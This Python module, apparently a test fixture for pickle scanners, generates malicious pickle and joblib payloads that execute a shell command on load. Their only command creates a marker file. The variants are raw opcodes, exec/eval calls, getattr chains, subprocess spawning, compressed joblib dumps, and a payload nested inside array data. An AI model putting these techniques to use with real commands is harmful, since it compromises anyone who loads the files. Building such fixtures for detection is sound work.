"""Pickles that run a command when somebody unpickles them, as they have been found in files of models.

Scanners of pickles miss most of them: compressed ones, chains, calls that hide in a good object.
"""

from __future__ import annotations

import io
import os
import pickle
import shlex
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np


class _Calls:
    """Pickled as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:  # noqa: ANN401 - anything
        self._call = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._call


def hostile_pickles(marker: Path) -> dict[str, bytes]:
    """By name, payloads that make the file `marker` where they are unpickled; pickle and joblib both read them."""
    touch = f"touch {shlex.quote(str(marker))}"
    system = _Calls(os.system, touch)
    python = f"import os; os.system({touch!r})"
    return {
        "os.system, as text": f"cposix\nsystem\n(S{touch!r}\ntR.".encode(),
        "os.system": pickle.dumps(system),
        "builtins.exec": pickle.dumps(_Calls(exec, python)),
        "builtins.eval of a compiled import": pickle.dumps(_Calls(eval, f"__import__('os').system({touch!r})")),
        "a chain of getattr and import_module": (
            f"cbuiltins\ngetattr\n(cimportlib\nimport_module\n(S'os'\ntRS'system'\ntR(S{touch!r}\ntR.".encode()
        ),
        "a subprocess": pickle.dumps(_Calls(os.spawnv, os.P_WAIT, sys.executable, [sys.executable, "-c", python])),
        "joblib, uncompressed": _dumped(system, 0),
        "joblib by zlib": _dumped(system, ("zlib", 3)),
        "joblib by lzma": _dumped(system, ("lzma", 3)),
        "joblib by bz2": _dumped(system, ("bz2", 3)),
        "deep inside of arrays": _dumped([{"weights": np.ones(3)}, {"more": [(1, {"hooks": [system]})]}], ("zlib", 3)),
    }


def _dumped(value: object, compress: int | tuple[str, int]) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=compress)
    return buffer.getvalue()
